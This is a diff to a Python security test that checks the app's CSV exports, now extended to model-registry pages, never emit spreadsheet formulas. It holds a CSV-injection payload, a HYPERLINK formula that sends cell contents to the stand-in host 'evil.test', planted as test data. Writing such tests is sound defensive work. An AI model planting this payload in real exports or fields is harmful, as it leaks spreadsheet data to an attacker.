@@ -8,10 +8,12 @@ import pytest
 from approvals.models import Request
 from audit.models import Entry
 from clusters.models import Drift
+from registry.models import ModelVersion, RegisteredModel
 from tests.pages.browsing import csv_of, text_of_file
 from tests.security.world import CANARY
 
 LISTS = ["/requests/", "/requests/?tab=mine", "/requests/?tab=decided", "/namespaces/?gone=true", "/audit/", "/inbox/", "/drift/"]
+LISTS += ["/models/?gone=true", f"/models/{CANARY}-model/"]
 FILTERS = ["", "team=vision", f"q={CANARY}", "actor=alice", "requester=alice", "ordering=team", "page_size=100", "page=2"]
 FORMULA = '=HYPERLINK("http://evil.test/"&A1;"open")'
 
@@ -66,6 +68,8 @@ def test_a_list_that_is_not_there_for_somebody_has_no_file_either(world, path):
 def test_no_cell_is_a_formula_whoever_wrote_it(world, path):
     Request.objects.update(title=FORMULA, justification=FORMULA, reason=FORMULA)
     Drift.objects.update(manager=FORMULA, name=FORMULA)
+    RegisteredModel.objects.update(description=FORMULA)
+    ModelVersion.objects.update(author=FORMULA)
     Entry.objects.create(actor_name=FORMULA, action="x", outcome="denied", subject_kind="x", subject_name=FORMULA)
     cells = [cell for row in csv_of(world.client("admin"), address(path, "format=csv")) for cell in row.values()]
     assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
